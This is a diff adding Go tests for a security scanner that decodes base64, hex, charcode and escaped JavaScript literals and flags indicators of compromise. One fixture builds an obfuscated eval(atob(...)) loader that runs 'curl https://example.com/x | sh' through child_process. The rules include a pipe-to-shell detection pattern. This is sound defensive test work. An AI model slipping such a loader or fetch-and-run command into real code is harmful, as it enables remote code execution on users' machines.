@@ -0,0 +1,157 @@
+package scanner
+
+import (
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// charCodes returns s as a comma-separated list of character codes.
+func charCodes(s string, format string) string {
+	codes := []string{}
+	for _, r := range s {
+		codes = append(codes, fmt.Sprintf(format, r))
+	}
+	return strings.Join(codes, ",")
+}
+
+func TestEncodedLiterals(t *testing.T) {
+	b64 := base64.StdEncoding.EncodeToString([]byte("child_process"))
+	tests := []struct {
+		name     string
+		src      string
+		expected []string // encoding:decoded
+	}{
+		{"atob", "eval(atob('" + b64 + "'))", []string{"base64:child_process"}},
+		{"atob concatenation", "atob('" + b64[:6] + "' + \"" + b64[6:] + "\")", []string{"base64:child_process"}},
+		{"buffer base64", "Buffer.from('" + b64 + "', 'base64').toString()", []string{"base64:child_process"}},
+		{"buffer url-safe unpadded", "Buffer.from('" + base64.RawURLEncoding.EncodeToString([]byte("a?>b")) + "', 'base64url')", []string{"base64:a?>b"}},
+		{"new buffer hex", "new Buffer(\"" + hex.EncodeToString([]byte("child_process")) + "\", 'hex')", []string{"hex:child_process"}},
+		{"fromCharCode", "String.fromCharCode(" + charCodes("eval", "%d") + ")", []string{"charcode:eval"}},
+		{"fromCharCode hex and spread", "String.fromCharCode(...[" + charCodes("eval", "0x%x") + "])", []string{"charcode:eval"}},
+		{"fromCharCode apply", "String.fromCharCode.apply(null, [" + charCodes("eval", "%d") + "])", []string{"charcode:eval"}},
+		{"escaped string", `var m = "\x63\x68\x69\x6c\x64_process"`, []string{"escapes:child_process"}},
+		{"few escapes", `var m = "café \x41"`, []string{}},
+		{"whole source", b64, []string{"base64:child_process"}},
+		{"binary payload", "atob('" + base64.StdEncoding.EncodeToString([]byte{0, 1, 2, 3, 4, 5, 0xff}) + "')", []string{}},
+		{"computed", "atob(payload); Buffer.from(data, 'base64'); String.fromCharCode(c + 1)", []string{}},
+		{"other encoding", "Buffer.from('" + b64 + "', 'utf8')", []string{}},
+		{"comment", "// atob('" + b64 + "')", []string{}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := []string{}
+			for _, literal := range encodedLiterals(newRuleSource([]byte(tt.src))) {
+				got = append(got, literal.encoding+":"+string(literal.decoded))
+			}
+			if strings.Join(got, "|") != strings.Join(tt.expected, "|") {
+				t.Errorf("Expected %q, got %q", tt.expected, got)
+			}
+		})
+	}
+}
+
+func TestIoCScanner_Decoded(t *testing.T) {
+	inner := "require('child_process').execSync(String.fromCharCode(" + charCodes("curl https://example.com/x | sh", "%d") + "))"
+	content := "// loader\nconst run = eval(atob('" + base64.StdEncoding.EncodeToString([]byte(inner)) + "'))\n"
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "index.js"), []byte(content), 0644)
+
+	rules := []Rule{
+		{ID: "test/child-process", Title: "child_process", Modules: []string{"child_process"}},
+		{ID: "test/pipe-to-shell", Title: "Pipe to shell", Patterns: []string{`curl[^|]*\|\s*sh`}},
+	}
+
+	tests := []struct {
+		name     string
+		depth    int
+		expected []string // RuleID decoding
+	}{
+		{"nested", DefaultMaxDecodeDepth, []string{"test/child-process base64", "test/pipe-to-shell base64 > charcode"}},
+		{"one level", 1, []string{"test/child-process base64"}},
+		{"disabled", 0, []string{}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			scanner, err := NewIoCScannerFromRules(rules, 10)
+			if err != nil {
+				t.Fatalf("Failed to create scanner: %v", err)
+			}
+			scanner.MaxDecodeDepth = tt.depth
+			findings, err := scanner.Scan(dir)
+			if err != nil {
+				t.Fatalf("Scan failed: %v", err)
+			}
+
+			got := []string{}
+			for _, f := range findings {
+				got = append(got, f.RuleID+" "+f.Decoding)
+				if f.Line != 2 || f.Column != 18 || !strings.HasPrefix(content[f.Offset:f.Offset+f.Length], "atob(") {
+					t.Errorf("Expected the finding at the atob call on line 2, got %d:%d %q", f.Line, f.Column, content[f.Offset:f.Offset+f.Length])
+				}
+				if !strings.Contains(f.Snippet, "atob('") {
+					t.Errorf("Expected the snippet of the encoded call, got %q", f.Snippet)
+				}
+			}
+			if strings.Join(got, "|") != strings.Join(tt.expected, "|") {
+				t.Errorf("Expected %q, got %q", tt.expected, got)
+			}
+		})
+	}
+}
+
+func TestIoCScanner_DecodedMatchCounts(t *testing.T) {
+	payload := "atob('" + base64.StdEncoding.EncodeToString([]byte("require('child_process')")) + "')"
+	content := "require('child_process')\n" + payload + "\n" + payload + "\n"
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "index.js"), []byte(content), 0644)
+
+	rules := []Rule{{ID: "test/child-process", Title: "child_process", Modules: []string{"child_process"}}}
+	tests := []struct {
+		name          string
+		allMatches    bool
+		maxPerFile    int
+		expectedLines []int
+	}{
+		{"first match only", false, 0, []int{1}},
+		{"every match", true, 0, []int{1, 2, 3}},
+		{"per-file cap", true, 2, []int{1, 2, 0}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			scanner, err := NewIoCScannerFromRules(rules, 10)
+			if err != nil {
+				t.Fatalf("Failed to create scanner: %v", err)
+			}
+			scanner.AllMatches = tt.allMatches
+			scanner.MaxMatchesPerFile = tt.maxPerFile
+			findings, err := scanner.Scan(dir)
+			if err != nil {
+				t.Fatalf("Scan failed: %v", err)
+			}
+
+			lines := []int{}
+			fingerprints := map[string]bool{}
+			for i, f := range findings {
+				lines = append(lines, f.Line)
+				fingerprints[fingerprint(f.RuleID, f)] = true
+				if f.Line > 0 && (f.Count != 3 || f.Occurrence != i+1) {
+					t.Errorf("Expected occurrence %d of 3, got %d of %d", i+1, f.Occurrence, f.Count)
+				}
+			}
+			if fmt.Sprint(lines) != fmt.Sprint(tt.expectedLines) {
+				t.Errorf("Expected findings on lines %v, got %v", tt.expectedLines, lines)
+			}
+			if len(fingerprints) != len(findings) {
+				t.Errorf("Expected a distinct fingerprint per finding, got %d for %d findings", len(fingerprints), len(findings))
+			}
+		})
+	}
+}